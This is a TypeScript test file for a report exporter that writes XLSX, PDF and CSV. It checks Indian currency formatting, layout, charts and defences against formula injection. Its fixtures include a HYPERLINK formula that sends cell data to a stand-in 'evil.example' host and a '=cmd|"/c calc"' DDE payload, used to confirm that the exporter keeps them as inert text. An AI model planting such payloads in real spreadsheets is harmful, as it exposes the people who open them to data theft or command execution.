import assert from 'node:assert/strict';
import { execFileSync, spawnSync } from 'node:child_process';
import {
  existsSync,
  mkdirSync,
  mkdtempSync,
  readdirSync,
  readFileSync,
  rmSync,
  writeFileSync,
} from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { after, before, describe, test } from 'node:test';
import { pathToFileURL } from 'node:url';
import { InvalidValue } from '@duely/domain';
import { parse } from 'csv-parse/sync';
import ExcelJS from 'exceljs';
import {
  exportReport,
  type ReportDocument,
  type ReportSection,
  sheetNames,
  writeCsv,
  writePdf,
  writeXlsx,
} from './index.ts';

/**
 * The exports are checked by opening them with the programs people use: LibreOffice reads the
 * XLSX and renders every cell as it would show it, poppler extracts the PDF's text and renders
 * its pages. CI installs them and sets DUELY_REQUIRE_OFFICE_TOOLS=1, so there a missing tool is a
 * failure; on a developer's machine without them these groups are skipped with the reason shown.
 */

const temp = mkdtempSync(join(tmpdir(), 'duely-export-'));
after(() => rmSync(temp, { recursive: true, force: true }));

function requireTool(name: string, debianPackage: string): void {
  const found = (process.env.PATH ?? '').split(':').some((dir) => dir && existsSync(join(dir, name)));
  if (!found) {
    throw new Error(
      `"${name}" is not installed. The report export tests open the files with the real program; ` +
        `install it with: apt-get install -y --no-install-recommends ${debianPackage}`,
    );
  }
}

const officeSkip = officeToolsSkip();
function officeToolsSkip(): string | false {
  const missing = ['soffice', 'pdftotext', 'pdftoppm', 'pdfinfo', 'pdffonts'].filter(
    (name) => !(process.env.PATH ?? '').split(':').some((dir) => dir && existsSync(join(dir, name))),
  );
  if (missing.length === 0 || process.env.DUELY_REQUIRE_OFFICE_TOOLS === '1') return false;
  return `needs ${missing.join(', ')}: apt-get install -y --no-install-recommends libreoffice-calc-nogui poppler-utils`;
}

let fileCount = 0;
function tempFile(ext: string, body: Buffer): string {
  const path = join(temp, `report${++fileCount}.${ext}`);
  writeFileSync(path, body);
  return path;
}

// A profile of our own, so a LibreOffice the developer has open (or a parallel run) can't lock us out.
const sofficeProfile = pathToFileURL(join(temp, 'lo-profile')).href;

/**
 * Every sheet to its own CSV, each cell as LibreOffice shows it. Filter tokens: comma, double
 * quote, UTF-8 (76), from line 1, no column formats, system language, quoted fields not as text,
 * detect special numbers, SAVE AS SHOWN (so number formats apply), no formulas, no trimming,
 * all sheets (-1). LibreOffice 7.4 writes them as <file>-<sheet name>.csv.
 */
function xlsxAsShown(xlsx: Buffer): Map<string, string[][]> {
  requireTool('soffice', 'libreoffice-calc-nogui');
  const input = tempFile('xlsx', xlsx);
  const outDir = join(temp, `lo-out-${fileCount}`);
  mkdirSync(outDir);
  const result = spawnSync(
    'soffice',
    [
      `-env:UserInstallation=${sofficeProfile}`,
      '--headless',
      '--convert-to',
      'csv:Text - txt - csv (StarCalc):44,34,76,1,,0,false,true,true,false,false,-1',
      '--outdir',
      outDir,
      input,
    ],
    { encoding: 'utf8', timeout: 120_000 },
  );
  const base = input
    .split('/')
    .pop()!
    .replace(/\.xlsx$/, '');
  const sheets = new Map<string, string[][]>();
  for (const file of readdirSync(outDir)) {
    assert.ok(file.startsWith(`${base}-`) && file.endsWith('.csv'), `unexpected LibreOffice output ${file}`);
    const name = file.slice(base.length + 1, -'.csv'.length);
    sheets.set(
      name,
      parse(readFileSync(join(outDir, file), 'utf8'), { relax_column_count: true }) as string[][],
    );
  }
  assert.ok(sheets.size > 0, `LibreOffice wrote no CSV (exit ${result.status}): ${result.stderr}`);
  return sheets;
}

function pdfText(pdf: Buffer): string[] {
  requireTool('pdftotext', 'poppler-utils');
  const text = execFileSync('pdftotext', ['-layout', tempFile('pdf', pdf), '-'], { encoding: 'utf8' });
  return text.split('\f').slice(0, -1); // one string per page; the text ends with a form feed
}

/** Every word with its box, from pdftotext -bbox (an XHTML page of <word> elements). */
function pdfWords(pdf: Buffer): { text: string; xMin: number; xMax: number }[] {
  requireTool('pdftotext', 'poppler-utils');
  const html = execFileSync('pdftotext', ['-bbox', tempFile('pdf', pdf), '-'], { encoding: 'utf8' });
  return [
    ...html.matchAll(/<word xMin="([\d.]+)" yMin="[\d.]+" xMax="([\d.]+)" yMax="[\d.]+">([^<]*)<\/word>/g),
  ].map((m) => ({
    xMin: Number(m[1]),
    xMax: Number(m[2]),
    text: m[3]!
      .replace(/&amp;/g, '&')
      .replace(/&quot;/g, '"')
      .replace(/&lt;/g, '<')
      .replace(/&gt;/g, '>'),
  }));
}

interface Raster {
  width: number;
  height: number;
  channels: number;
  pixels: Buffer;
}

/** Page `page` as a PPM/PGM from pdftoppm: a short text header, then raw bytes. */
function renderPage(pdf: Buffer, page: number, gray: boolean): Raster {
  requireTool('pdftoppm', 'poppler-utils');
  const path = tempFile('pdf', pdf);
  const out = `${path}-page`;
  execFileSync('pdftoppm', [
    ...(gray ? ['-gray'] : []),
    '-r',
    '50',
    '-f',
    String(page),
    '-l',
    String(page),
    '-singlefile',
    path,
    out,
  ]);
  const data = readFileSync(`${out}.${gray ? 'pgm' : 'ppm'}`);
  const fields: string[] = [];
  let i = 0;
  while (fields.length < 4) {
    while (/\s/.test(String.fromCharCode(data[i]!))) i++;
    let token = '';
    while (!/\s/.test(String.fromCharCode(data[i]!))) token += String.fromCharCode(data[i++]!);
    fields.push(token);
  }
  const [magic, width, height] = fields;
  assert.ok(magic === 'P5' || magic === 'P6', `unexpected image type ${magic}`);
  return {
    width: Number(width),
    height: Number(height),
    channels: magic === 'P6' ? 3 : 1,
    pixels: data.subarray(i + 1),
  };
}

function pdfPageSizes(pdf: Buffer): string[] {
  requireTool('pdfinfo', 'poppler-utils');
  const info = execFileSync('pdfinfo', ['-f', '1', '-l', '9999', tempFile('pdf', pdf)], { encoding: 'utf8' });
  return [...info.matchAll(/Page\s+\d+ size:\s+([\d.]+ x [\d.]+) pts/g)].map((m) => m[1]!);
}

const PORTRAIT = '595.28 x 841.89';
const LANDSCAPE = '841.89 x 595.28';

// ---------------------------------------------------------------------------------------------
// The sample: three sections in rupees, with a credit balance, a dollar column, a share, dates,
// an amount past 100 crore, a bar chart and a line chart.

const INJECTION = '=HYPERLINK("http://evil.example/?"&A1,"Click")';

function sampleDocument(): ReportDocument {
  return {
    title: 'Receivables ageing',
    subtitle: 'As of 30-Sep-2025',
    tenantName: 'Acme Traders Pvt Ltd',
    currency: 'INR',
    generatedAt: '2025-10-01T09:30:00+05:30',
    sections: [
      {
        name: 'Ageing',
        title: 'Ageing buckets',
        note: 'Open invoices by days past due.',
        columns: [
          { key: 'bucket', label: 'Bucket', type: 'text' },
          { key: 'outstanding', label: 'Outstanding', type: 'money' },
          { key: 'overdue', label: 'Overdue', type: 'money' },
          { key: 'export', label: 'Export', type: 'money', currency: 'USD' },
          { key: 'share', label: 'Share', type: 'percent' },
        ],
        rows: [
          { bucket: 'Not due', outstanding: 123456789n, overdue: 0n, export: 123456n, share: 55.9 },
          { bucket: '1-30 days', outstanding: 5000000n, overdue: 2500050n, export: -5000n, share: 20.1 },
          { bucket: 'Credit balances', outstanding: -150000000n, overdue: null, export: null, share: -3.5 },
          {
            bucket: '90+ days',
            outstanding: 1234567890123n,
            overdue: 1234567890123n,
            export: 99n,
            share: 27.5,
          },
        ],
        totals: { outstanding: 1234546346912n, overdue: 1234570390173n, export: 118555n, share: 100 },
        chart: {
          kind: 'bar',
          title: 'Outstanding by bucket',
          category: 'bucket',
          series: ['outstanding', 'overdue'],
        },
      },
      {
        name: 'Collections',
        title: 'Monthly collections',
        columns: [
          { key: 'month', label: 'Month end', type: 'date' },
          { key: 'collected', label: 'Collected', type: 'money' },
          { key: 'dso', label: 'DSO', type: 'days' },
          { key: 'invoices', label: 'Invoices', type: 'integer' },
        ],
        rows: [
          { month: '2025-04-30', collected: 100000000n, dso: 52, invoices: 150000 },
          { month: '2025-05-31', collected: 135000000n, dso: 47, invoices: 1200 },
          { month: '2025-06-30', collected: 98765432n, dso: 49, invoices: 980 },
          { month: '2025-07-31', collected: 205000000n, dso: 41, invoices: 1432 },
        ],
        chart: { kind: 'line', title: 'Collections by month', category: 'month', series: ['collected'] },
      },
      {
        name: 'Customers',
        title: 'By customer',
        columns: [
          { key: 'customer', label: 'Customer', type: 'text' },
          { key: 'balance', label: 'Balance', type: 'money' },
          { key: 'oldest', label: 'Oldest due', type: 'date' },
          { key: 'days', label: 'Days overdue', type: 'days' },
        ],
        rows: [
          { customer: 'Sharma & Sons, "Delhi"', balance: 4200000n, oldest: '2025-01-05', days: 268 },
          { customer: INJECTION, balance: 10n, oldest: '2025-03-31', days: 183 },
          { customer: 'Kumar Textiles', balance: -250075n, oldest: null, days: null },
        ],
        totals: { balance: 3949935n },
      },
    ],
  };
}

describe('XLSX, read back by LibreOffice', { skip: officeSkip }, () => {
  let sheets: Map<string, string[][]>;
  let workbook: ExcelJS.Workbook;
  before(async () => {
    const xlsx = await writeXlsx(sampleDocument());
    sheets = xlsxAsShown(xlsx);
    workbook = new ExcelJS.Workbook();
    await workbook.xlsx.load(xlsx as unknown as ArrayBuffer);
  });

  const table = (name: string, header: string) => {
    const rows = sheets.get(name);
    assert.ok(rows, `no sheet ${name} in ${[...sheets.keys()]}`);
    const at = rows.findIndex((row) => row[0] === header);
    assert.ok(at >= 0, `no header row in ${name}`);
    return { above: rows.slice(0, at), rows: rows.slice(at) };
  };

  test('one sheet per section, in order', () => {
    assert.deepEqual([...sheets.keys()].sort(), ['Ageing', 'Collections', 'Customers']);
    assert.deepEqual(
      workbook.worksheets.map((w) => w.name),
      ['Ageing', 'Collections', 'Customers'],
    );
  });

  test('rupees show with lakh and crore grouping and a real minus; dollars plain with the code in the header', () => {
    const { above, rows } = table('Ageing', 'Bucket');
    assert.deepEqual(above[0]![0], 'Receivables ageing');
    assert.deepEqual(above[1]![0], 'Ageing buckets');
    assert.deepEqual(above[2]![0], 'Acme Traders Pvt Ltd · As of 30-Sep-2025');
    assert.deepEqual(above[4]![0], 'Open invoices by days past due.');
    assert.deepEqual(rows, [
      ['Bucket', 'Outstanding', 'Overdue', 'Export (USD)', 'Share'],
      ['Not due', '₹12,34,567.89', '₹0.00', '1,234.56', '55.9%'],
      ['1-30 days', '₹50,000.00', '₹25,000.50', '-50.00', '20.1%'],
      ['Credit balances', '-₹15,00,000.00', '', '', '-3.5%'],
      ['90+ days', '₹12,34,56,78,901.23', '₹12,34,56,78,901.23', '0.99', '27.5%'],
      ['Total', '₹12,34,54,63,469.12', '₹12,34,57,03,901.73', '1,185.55', '100.0%'],
    ]);
  });

  test('dates are real dates shown DD-Mon-YYYY; counts group in lakhs too', () => {
    assert.deepEqual(table('Collections', 'Month end').rows, [
      ['Month end', 'Collected', 'DSO', 'Invoices'],
      ['30-Apr-2025', '₹10,00,000.00', '52', '1,50,000'],
      ['31-May-2025', '₹13,50,000.00', '47', '1,200'],
      ['30-Jun-2025', '₹9,87,654.32', '49', '980'],
      ['31-Jul-2025', '₹20,50,000.00', '41', '1,432'],
    ]);
    const cell = workbook.getWorksheet('Collections')!.getCell('A7');
    assert.ok(cell.value instanceof Date, 'the date is stored as a date, not as text');
    assert.equal((cell.value as Date).toISOString(), '2025-04-30T00:00:00.000Z');
  });

  test('text that looks like a formula stays text', () => {
    assert.deepEqual(table('Customers', 'Customer').rows, [
      ['Customer', 'Balance', 'Oldest due', 'Days overdue'],
      ['Sharma & Sons, "Delhi"', '₹42,000.00', '05-Jan-2025', '268'],
      [INJECTION, '₹0.10', '31-Mar-2025', '183'],
      ['Kumar Textiles', '-₹2,500.75', '', ''],
      ['Total', '₹39,499.35', '', ''],
    ]);
    const cell = workbook.getWorksheet('Customers')!.getCell('A8');
    assert.equal(cell.type, ExcelJS.ValueType.String);
  });

  test('cells hold exact numbers: money in rupees, percent as a fraction', () => {
    const sheet = workbook.getWorksheet('Ageing')!;
    assert.equal(sheet.getCell('B8').value, 1234567.89);
    assert.equal(sheet.getCell('B10').value, -1500000);
    assert.equal(sheet.getCell('B11').value, 12345678901.23);
    assert.equal(sheet.getCell('D8').value, 1234.56);
    assert.equal(sheet.getCell('E8').value, 0.559);
    assert.equal(sheet.getCell('E8').numFmt, '0.0%');
  });

  test('header row frozen, autofilter over the data rows but not the totals, totals bold', () => {
    const expected: Record<string, [number, string]> = {
      Ageing: [7, 'A7:E11'],
      Collections: [6, 'A6:D10'],
      Customers: [6, 'A6:D9'],
    };
    for (const [name, [headerRow, filter]] of Object.entries(expected)) {
      const sheet = workbook.getWorksheet(name)!;
      const view = sheet.views[0] as ExcelJS.WorksheetViewFrozen;
      assert.equal(view.state, 'frozen', name);
      assert.equal(view.ySplit, headerRow, name);
      assert.equal(view.topLeftCell, `A${headerRow + 1}`, name);
      assert.equal(sheet.autoFilter, filter, name);
      assert.equal(sheet.getRow(headerRow).getCell(1).font?.bold, true, name);
    }
    const ageing = workbook.getWorksheet('Ageing')!;
    assert.equal(ageing.getCell('A12').value, 'Total');
    assert.equal(ageing.getCell('B12').font?.bold, true);
  });

  test('columns are fitted to what they show', () => {
    const sheet = workbook.getWorksheet('Ageing')!;
    assert.ok(sheet.getColumn(2).width! >= '₹12,34,54,63,469.12'.length, 'money column wide enough');
    assert.ok(sheet.getColumn(1).width! >= 'Credit balances'.length);
    assert.ok(
      sheet.getColumn(1).width! < 'Receivables ageing'.length + 10,
      'title rows do not widen column A',
    );
  });
});

describe('PDF, read back by poppler', { skip: officeSkip }, () => {
  let pdf: Buffer;
  let pages: string[];
  before(async () => {
    pdf = await writePdf(sampleDocument());
    pages = pdfText(pdf);
  });

  // The last match: a category can also label the chart's x axis, which comes before the table.
  const lineWith = (first: string, page = 1) => {
    const line = pages[page - 1]!.split('\n').findLast((l) => l.trim().startsWith(first));
    assert.ok(line, `no line starting "${first}"`);
    return line.trim().replace(/\s+/g, ' ');
  };

  test('the rupee sign renders and figures read as displayed', () => {
    assert.equal(pages[0]!.split('\n')[0]!.trim(), 'Receivables ageing');
    assert.equal(lineWith('Not due'), ['Not due', '₹12,34,567.89', '₹0.00', '$1,234.56', '55.9%'].join(' '));
    assert.equal(
      lineWith('1-30 days'),
      ['1-30 days', '₹50,000.00', '₹25,000.50', '-$50.00', '20.1%'].join(' '),
    );
    assert.equal(lineWith('Credit balances'), ['Credit balances', '-₹15,00,000.00', '-3.5%'].join(' '));
    assert.equal(
      lineWith('90+ days'),
      ['90+ days', '₹12,34,56,78,901.23', '₹12,34,56,78,901.23', '$0.99', '27.5%'].join(' '),
    );
    assert.equal(
      lineWith('Total'),
      ['Total', '₹12,34,54,63,469.12', '₹12,34,57,03,901.73', '$1,185.55', '100.0%'].join(' '),
    );
    assert.equal(lineWith('30-Apr-2025', 2), ['30-Apr-2025', '₹10,00,000.00', '52', '1,50,000'].join(' '));
    assert.equal(lineWith('Kumar Textiles', 3), ['Kumar Textiles', '-₹2,500.75'].join(' '));
    assert.ok(pages.join('\n').includes(INJECTION));
  });

  test('figures are right-aligned: their right edges line up', () => {
    const words = pdfWords(pdf);
    const right = (text: string) => {
      const word = words.find((w) => w.text === text);
      assert.ok(word, `no word ${text}`);
      return word.xMax;
    };
    const edges = ['₹12,34,567.89', '₹50,000.00', '-₹15,00,000.00', '₹12,34,54,63,469.12'].map(right);
    for (const edge of edges) assert.ok(Math.abs(edge - edges[0]!) < 0.5, `right edges ${edges}`);
    assert.ok(right('Not') < edges[0]! - 100, 'text stays left');
  });

  test('charts carry their titles, legends and axis labels', () => {
    const all = pages.join('\n');
    for (const text of [
      'Outstanding by bucket',
      'Collections by month',
      'Amount (INR)',
      'Bucket',
      '₹0',
      ' Cr',
      ' L',
    ]) {
      assert.ok(all.includes(text), `chart text "${text}" missing`);
    }
  });

  test('page 1 is drawn, with a coloured chart on it', () => {
    const gray = renderPage(pdf, 1, true);
    let dark = 0;
    for (const value of gray.pixels) if (value < 160) dark++;
    assert.ok(dark / (gray.width * gray.height) > 0.005, `page 1 looks blank (${dark} dark pixels)`);

    const colour = renderPage(pdf, 1, false);
    let coloured = 0;
    for (let i = 0; i < colour.pixels.length; i += 3) {
      const [r, g, b] = [colour.pixels[i]!, colour.pixels[i + 1]!, colour.pixels[i + 2]!];
      if (Math.max(r, g, b) - Math.min(r, g, b) > 80) coloured++;
    }
    assert.ok(coloured > 200, `no chart bars on page 1 (${coloured} coloured pixels)`);
  });

  test('one embedded subset each of Noto Sans regular and bold, no Helvetica', () => {
    requireTool('pdffonts', 'poppler-utils');
    const fonts = execFileSync('pdffonts', [tempFile('pdf', pdf)], { encoding: 'utf8' })
      .split('\n')
      .slice(2)
      .filter(Boolean)
      .map((line) => line.split(/\s+/));
    assert.deepEqual(fonts.map((f) => f[0]!.replace(/^[A-Z]{6}\+/, '')).sort(), [
      'NotoSans-Bold',
      'NotoSans-Regular',
    ]);
    for (const f of fonts) assert.equal(f[f.length - 5], 'yes', `${f[0]} embedded`);
  });

  test('A4 portrait for narrow tables', () => {
    assert.deepEqual(new Set(pdfPageSizes(pdf)), new Set([PORTRAIT]));
  });
});

describe('PDF: long and wide tables', { skip: officeSkip }, () => {
  test('2,000 rows run over many pages with the header on each', async () => {
    const rows = Array.from({ length: 2000 }, (_, i) => ({
      customer: `Customer ${String(i + 1).padStart(4, '0')}`,
      invoice: `INV/25-26/${String(i + 1).padStart(5, '0')}`,
      due: '2025-06-30',
      balance: BigInt((i + 1) * 1234567),
    }));
    const doc: ReportDocument = {
      ...sampleDocument(),
      sections: [
        {
          name: 'Open items',
          title: 'Open items',
          columns: [
            { key: 'customer', label: 'Customer', type: 'text' },
            { key: 'invoice', label: 'Invoice', type: 'text' },
            { key: 'due', label: 'Due date', type: 'date' },
            { key: 'balance', label: 'Balance', type: 'money' },
          ],
          rows,
          totals: { balance: 1234567n * 2001000n }, // 1 + 2 + … + 2000 = 2001000
        },
      ],
    };
    const pdf = await writePdf(doc);
    const pages = pdfText(pdf);
    assert.ok(pages.length >= 25, `only ${pages.length} pages`);
    pages.forEach((page, p) => {
      const header = page.split('\n').find((l) => /^\s*Customer\s+Invoice\s+Due date\s+Balance\s*$/.test(l));
      assert.ok(header, `page ${p + 1} has no table header`);
      if (p > 0)
        assert.ok(page.includes('Open items (continued)'), `page ${p + 1} does not say it continues`);
      assert.match(page, new RegExp(`Page ${p + 1} of ${pages.length}`));
    });
    const all = pages.join('\n');
    let from = 0;
    for (const row of rows) {
      const at = all.indexOf(row.customer, from);
      assert.ok(at >= 0, `${row.customer} missing or out of order`);
      from = at;
    }
    assert.ok(all.includes('₹2,46,91,340.00'), 'last balance'); // 2000 × 12,345.67
    assert.ok(all.includes('₹24,70,36,85,670.00'), 'total'); // 12,345.67 × 2000 × 2001 / 2
  });

  test('a wide table turns the page to landscape', async () => {
    const columns = [
      { key: 'customer', label: 'Customer name', type: 'text' as const },
      ...Array.from({ length: 9 }, (_, i) => ({
        key: `m${i}`,
        label: `Month ${i + 1}`,
        type: 'money' as const,
      })),
    ];
    const row = Object.fromEntries([
      ['customer', 'Mehta Industries Limited'],
      ...columns.slice(1).map((c) => [c.key, 9876543210n]),
    ]);
    const doc: ReportDocument = {
      ...sampleDocument(),
      sections: [{ name: 'Wide', title: 'Wide', columns, rows: [row] }],
    };
    const pdf = await writePdf(doc);
    assert.deepEqual(pdfPageSizes(pdf), [LANDSCAPE]);
    const line = pdfText(pdf)[0]!
      .split('\n')
      .find((l) => l.includes('Mehta'))!;
    assert.equal(line.match(/₹9,87,65,432\.10/g)?.length, 9, 'every figure whole on the page');
  });
});

describe('CSV', () => {
  const csv = writeCsv(sampleDocument());

  test('RFC 4180: CRLF lines, quoted commas and quotes, one block per section', () => {
    assert.ok(csv.endsWith('\r\n'));
    assert.ok(!/[^\r]\n/.test(csv), 'every line ends CRLF');
    const blocks = csv.split('\r\n\r\n').filter(Boolean);
    assert.equal(blocks.length, 3);
    const parsed = blocks.map((b) => parse(b, { relax_column_count: true }) as string[][]);
    assert.deepEqual(parsed[0], [
      ['Ageing buckets'],
      ['Bucket', 'Outstanding (INR)', 'Overdue (INR)', 'Export (USD)', 'Share (%)'],
      ['Not due', '1234567.89', '0.00', '1234.56', '55.9'],
      ['1-30 days', '50000.00', '25000.50', '-50.00', '20.1'],
      ['Credit balances', '-1500000.00', '', '', '-3.5'],
      ['90+ days', '12345678901.23', '12345678901.23', '0.99', '27.5'],
      ['Total', '12345463469.12', '12345703901.73', '1185.55', '100'],
    ]);
    assert.deepEqual(parsed[1]![2], ['2025-04-30', '1000000.00', '52', '150000']);
    assert.ok(csv.includes('"Sharma & Sons, ""Delhi"""'));
  });

  test('formula injection: text starting with = + - @ tab or CR gets an apostrophe; numbers do not', () => {
    const doc: ReportDocument = {
      ...sampleDocument(),
      sections: [
        {
          name: 'x',
          title: '=cmd|"/c calc"!A1',
          columns: [
            { key: 'name', label: '@label', type: 'text' },
            { key: 'amount', label: 'Amount', type: 'money' },
          ],
          rows: [
            { name: '=1+1', amount: -100n },
            { name: '+91 98765 43210', amount: 1n },
            { name: '-2+3', amount: null },
            { name: '@SUM(A1:A2)', amount: null },
            { name: '\tTabbed', amount: null },
            { name: '\rReturn', amount: null },
            { name: 'Plain = fine', amount: null },
          ],
        },
      ],
    };
    const lines = parse(writeCsv(doc)) as string[][];
    assert.deepEqual(lines, [
      ['@label', 'Amount (INR)'].map((t, i) => (i === 0 ? `'${t}` : t)),
      ["'=1+1", '-1.00'],
      ["'+91 98765 43210", '0.01'],
      ["'-2+3", ''],
      ["'@SUM(A1:A2)", ''],
      ["'\tTabbed", ''],
      ["'\rReturn", ''],
      ['Plain = fine', ''],
    ]);
    const twoSections = writeCsv({ ...doc, sections: [doc.sections[0]!, doc.sections[0]!] });
    assert.ok(twoSections.startsWith(`"'=cmd|""/c calc""!A1"\r\n`), 'section titles are defused too');
  });
});

describe('exportReport', () => {
  test('body, content type and extension for each format', async () => {
    const doc = sampleDocument();
    const xlsx = await exportReport(doc, 'xlsx');
    assert.equal(xlsx.extension, 'xlsx');
    assert.equal(xlsx.contentType, 'application/vnd.openxmlformats-officedocument.spreadsheetml.sheet');
    assert.equal(xlsx.body.subarray(0, 2).toString(), 'PK');
    const pdf = await exportReport(doc, 'pdf');
    assert.equal(pdf.extension, 'pdf');
    assert.equal(pdf.contentType, 'application/pdf');
    assert.equal(pdf.body.subarray(0, 5).toString(), '%PDF-');
    const csv = await exportReport(doc, 'csv');
    assert.equal(csv.extension, 'csv');
    assert.equal(csv.contentType, 'text/csv; charset=utf-8');
    assert.deepEqual([...csv.body.subarray(0, 3)], [0xef, 0xbb, 0xbf], 'UTF-8 BOM for Excel');
    assert.equal(csv.body.subarray(3).toString('utf8'), writeCsv(doc));
    await assert.rejects(exportReport(doc, 'docx' as never), InvalidValue);
  });

  test('the same report gives the same PDF', async () => {
    const a = await writePdf(sampleDocument());
    const b = await writePdf(sampleDocument());
    assert.ok(a.equals(b));
  });
});

describe('awkward input', () => {
  test('sheet names: forbidden characters replaced, 31 characters, unique, never empty or History', () => {
    const section = (name: string): ReportSection => ({
      name,
      title: name,
      columns: [{ key: 'a', label: 'A', type: 'text' }],
      rows: [],
    });
    const names = sheetNames(
      [
        'Q1/Q2 [draft]: a*b?c\\d',
        'Receivables by customer and by branch office',
        'Summary',
        'summary',
        "'Quoted'",
        '',
        'History',
        '  :  ',
      ].map(section),
    );
    assert.deepEqual(names, [
      'Q1-Q2 (draft) a b c-d',
      'Receivables by customer and by',
      'Summary',
      'summary (2)',
      'Quoted',
      'Sheet 6',
      'History 7',
      'Sheet 8',
    ]);
    for (const name of names) assert.ok(name.length >= 1 && name.length <= 31 && !/[[\]:*?/\\]/.test(name));
  });

  test('a section named with []:*?/\\ and a section with no rows export to all three formats', { skip: officeSkip }, async () => {
    const doc: ReportDocument = {
      ...sampleDocument(),
      sections: [
        {
          name: 'Dues [FY 25/26]: *all*?\\',
          title: 'Dues',
          columns: [
            { key: 'who', label: 'Customer', type: 'text' },
            { key: 'amount', label: 'Amount', type: 'money' },
          ],
          rows: [{ who: 'Iyer & Co', amount: 99999999n }],
        },
        {
          name: 'Empty',
          title: 'Nothing due',
          columns: [
            { key: 'who', label: 'Customer', type: 'text' },
            { key: 'amount', label: 'Amount', type: 'money' },
          ],
          rows: [],
          totals: { amount: 0n },
          chart: { kind: 'bar', title: 'Nothing to see', category: 'who', series: ['amount'] },
        },
      ],
    };
    const xlsx = await writeXlsx(doc);
    const sheets = xlsxAsShown(xlsx);
    assert.deepEqual([...sheets.keys()].sort(), ['Dues (FY 25-26) all', 'Empty']);
    assert.deepEqual(sheets.get('Dues (FY 25-26) all')!.slice(-2), [
      ['Customer', 'Amount'],
      ['Iyer & Co', '₹9,99,999.99'],
    ]);
    assert.deepEqual(sheets.get('Empty')!.slice(-2), [
      ['Customer', 'Amount'],
      ['Total', '₹0.00'],
    ]);
    const workbook = new ExcelJS.Workbook();
    await workbook.xlsx.load(xlsx as unknown as ArrayBuffer);
    assert.equal(workbook.getWorksheet('Empty')!.autoFilter, 'A6:B6');

    const pages = pdfText(await writePdf(doc));
    assert.equal(pages.length, 2);
    assert.match(pages[1]!, /No rows for this report\./);
    assert.match(pages[1]!, /No data to chart\./);
    assert.match(pages[1]!, /Total\s+₹0\.00/);

    assert.equal(
      writeCsv(doc),
      'Dues\r\nCustomer,Amount (INR)\r\nIyer & Co,999999.99\r\n\r\nNothing due\r\nCustomer,Amount (INR)\r\nTotal,0.00\r\n\r\n',
    );
  });

  test('a malformed document is refused before any file is written, naming the field', async () => {
    const broken: [string, (doc: ReportDocument) => void, RegExp][] = [
      [
        'money as a JS number',
        (d) => (d.sections[0]!.rows[0]!.outstanding = 1234.5),
        /sections\[0\]\.rows\[0\]\.outstanding: money cells are bigint/,
      ],
      [
        'a date that is not a date',
        (d) => (d.sections[1]!.rows[0]!.month = '2025-02-30'),
        /sections\[1\]\.rows\[0\]\.month/,
      ],
      ['an unknown currency', (d) => (d.sections[0]!.columns[3]!.currency = 'XYZ'), /columns\[3\]\.currency/],
      [
        'a chart on a missing column',
        (d) => (d.sections[1]!.chart!.series = ['nope']),
        /chart\.series: no column "nope"/,
      ],
      ['a chart on a text column', (d) => (d.sections[0]!.chart!.series = ['bucket']), /not numeric/],
      ['duplicate column keys', (d) => (d.sections[2]!.columns[1]!.key = 'customer'), /duplicate column key/],
      ['no sections', (d) => (d.sections = []), /at least one section/],
      ['a bad timestamp', (d) => (d.generatedAt = 'yesterday'), /generatedAt/],
    ];
    for (const [what, breakIt, message] of broken) {
      const doc = sampleDocument();
      breakIt(doc);
      for (const format of ['xlsx', 'pdf', 'csv'] as const) {
        await assert.rejects(
          exportReport(doc, format),
          (e: unknown) => e instanceof InvalidValue && message.test(e.message),
          `${what} (${format})`,
        );
      }
    }
  });
});
